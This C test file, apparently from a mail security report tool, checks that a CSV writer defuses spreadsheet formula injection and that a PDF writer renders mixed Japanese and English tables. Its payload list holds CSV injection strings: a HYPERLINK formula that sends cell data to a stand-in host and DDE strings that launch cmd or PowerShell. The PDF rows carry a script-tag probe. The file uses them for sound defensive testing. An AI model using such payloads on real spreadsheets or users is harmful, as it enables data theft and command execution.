/*
 * 80-report: the CSV cell writer (RFC 4180, formulas defused: SECURITY.md
 * R-W-5) read back with a strict RFC 4180 parser, and the PDF writer
 * (a page with Japanese and English text, a chart and a table that runs
 * over several pages).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "csv.h"
#include "pdf.h"
#include "tap.h"

/* A strict RFC 4180 reader of one row of quoted cells: the cells, or -1
 * when the text is not exactly that. */
static int
parse_row(const char *s, size_t n, char cells[][4096], int max)
{
	size_t	 i = 0, k;
	int	 nc = 0;

	for (;;) {
		if (nc == max || i >= n || s[i] != '"')
			return -1;
		i++;
		k = 0;
		for (;;) {
			if (i >= n)
				return -1;
			if (s[i] == '"') {
				if (i + 1 < n && s[i + 1] == '"') {
					cells[nc][k++] = '"';
					i += 2;
					continue;
				}
				i++;
				break;
			}
			if (k + 1 >= 4096)
				return -1;
			cells[nc][k++] = s[i++];
		}
		cells[nc++][k] = '\0';
		if (i + 2 == n && s[i] == '\r' && s[i + 1] == '\n')
			return nc;
		if (i >= n || s[i] != ',')
			return -1;
		i++;
	}
}

static const char *const payloads[] = {
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	"+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
	"=1+1", "+1", "-1", "@x", "a,b", "a\"b", "\"", "\"\"", "line1\nline2",
	"line1\r\nline2", ",", " =1", "plain", "件名: ご確認ください",
	"=cmd|'/C powershell'!A1", "'already quoted", "a\xe2\x80\xae" "b",
};

static void
test_csv(void)
{
	struct buf	 out = BUF_INIT;
	struct csv	 c;
	char		 cells[3][4096];
	char		 in[64];
	size_t		 i, j;
	int		 n, bad = 0, count = 0;
	const char	*trig = "=+-@\t\r";

	csv_init(&c, &out);
	csv_bom(&c);
	ok(out.len == 3 && memcmp(out.ptr, "\xef\xbb\xbf", 3) == 0,
	    "the file starts with the UTF-8 byte order mark");
	buf_reset(&out);

	csv_cell(&c, "=1+2");
	csv_cell(&c, NULL);
	csv_cell(&c, "say \"hi\", then go");
	csv_end_row(&c);
	is_str(out.ptr, "\"'=1+2\",\"\",\"say \"\"hi\"\", then go\"\r\n",
	    "cells quoted, quotes doubled, a formula defused, CRLF");

	for (i = 0; i < sizeof(payloads) / sizeof(payloads[0]); i++) {
		buf_reset(&out);
		csv_cell(&c, payloads[i]);
		csv_cell(&c, "x");
		csv_end_row(&c);
		n = parse_row(out.ptr, out.len, cells, 3);
		ok(n == 2, "payload %zu reads back as two cells", i);
		if (n != 2)
			continue;
		ok(!csv_trigger((unsigned char)cells[0][0]),
		    "payload %zu does not start with a trigger", i);
		if (strchr(trig, payloads[i][0]) != NULL &&
		    payloads[i][0] != '\r')
			ok(cells[0][0] == '\'' &&
			    strcmp(cells[0] + 1, payloads[i]) == 0,
			    "payload %zu: an apostrophe, then the value", i);
		else if (strpbrk(payloads[i], "\r\xe2") == NULL)
			is_str(cells[0], payloads[i],
			    "payload %zu reads back unchanged", i);
	}
	buf_reset(&out);
	csv_cell(&c, "a\xe2\x80\xae" "b\x01" "c\xff");
	csv_end_row(&c);
	is_str(out.ptr, "\"a\xef\xbf\xbd" "b\xef\xbf\xbd" "c\"\r\n",
	    "bidi override and control made U+FFFD, invalid UTF-8 dropped");

	/* Every short string over a small alphabet of the dangerous
	 * bytes: 7^3 = 343 payloads, each read back strictly. */
	{
		const char	 al[] = "=+-@\t\",\nab";
		size_t		 na = sizeof(al) - 1, a, b2, d;

		for (a = 0; a < na; a++)
			for (b2 = 0; b2 < na; b2++)
				for (d = 0; d < na; d++) {
					in[0] = al[a];
					in[1] = al[b2];
					in[2] = al[d];
					in[3] = '\0';
					buf_reset(&out);
					csv_cell(&c, in);
					csv_end_row(&c);
					count++;
					n = parse_row(out.ptr, out.len, cells,
					    3);
					j = strchr("=+-@\t", in[0]) != NULL;
					if (n != 1 || csv_trigger(
					    (unsigned char)cells[0][0]) ||
					    strcmp(cells[0] + j, in) != 0 ||
					    (j && cells[0][0] != '\''))
						bad++;
				}
	}
	ok(bad == 0, "%d generated payloads: all read back, none starts "
	    "with a trigger (%d bad)", count, bad);
	csv_release(&c);
	buf_release(&out);
}

static void
test_pdf(void)
{
	static const struct pdf_col cols[] = {
		{ "受信日時 Received", 0.2, 1, 0 },
		{ "件名 Subject", 0.5, 2, 0 },
		{ "SHA-256", 0.3, 1, 1 },
	};
	const char	*labels[] = { "フィッシング", "Malware", "Spam" };
	long long	 values[] = { 12, 3, 0 };
	const char	*row[3];
	char		 subj[128];
	struct buf	 out = BUF_INIT;
	struct pdf	*p;
	int		 i, rc;
	FILE		*f;

	p = pdf_open(&out, "Shindan report", "footer 秘密", "Page");
	pdf_title(p, "メールセキュリティ診断レポート Mail security report");
	pdf_kv(p, "アカウント", "user@example.com");
	pdf_text(p, "日本語と English の混在した段落。\xe2\x80\xae" "reversed?");
	pdf_h2(p, "Chart");
	pdf_bars(p, labels, values, 3);
	pdf_table(p, cols, 3);
	for (i = 0; i < 120; i++) {
		snprintf(subj, sizeof(subj), "件名 %d: 至急ご確認ください "
		    "<script>alert(1)</script> (%d)", i, i);
		row[0] = "2025-01-31 12:00";
		row[1] = subj;
		row[2] = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
		pdf_row(p, row);
	}
	pdf_table_end(p);
	pdf_bullet(p, "Next step");
	rc = pdf_close(p);
	ok(rc == 0, "the PDF writer finished");
	ok(out.len > 1000 && memcmp(out.ptr, "%PDF-", 5) == 0,
	    "a PDF of %zu bytes", out.len);
	ok(out.len > 6 && memmem(out.ptr + out.len - 8, 8, "%%EOF", 5) !=
	    NULL, "ending with %%%%EOF");
	if (getenv("SHINDAN_ARTIFACTS") != NULL) {
		char	 path[4096];

		snprintf(path, sizeof(path), "%s/80-report.pdf",
		    getenv("SHINDAN_ARTIFACTS"));
		if ((f = fopen(path, "wb")) != NULL) {
			fwrite(out.ptr, 1, out.len, f);
			fclose(f);
		}
	}
	buf_release(&out);

	/* A buffer too small: the writer says so. */
	buf_init(&out, 2000);
	p = pdf_open(&out, "t", "f", "Page");
	pdf_text(p, "This does not fit in 2,000 bytes with its font.");
	ok(pdf_close(p) == -1, "a PDF over the buffer's cap fails cleanly");
	buf_release(&out);
}

/* fontconfig, cairo and pango keep caches for the life of the process;
 * LeakSanitizer reports them at exit.  They are not ours. */
const char	*__lsan_default_suppressions(void);

const char *
__lsan_default_suppressions(void)
{
	return "leak:libfontconfig.so\nleak:libcairo.so\n"
	    "leak:libpango\nleak:libharfbuzz.so\nleak:libglib\n";
}

int
main(void)
{
	test_csv();
	test_pdf();
	done_testing();
	return 0;
}
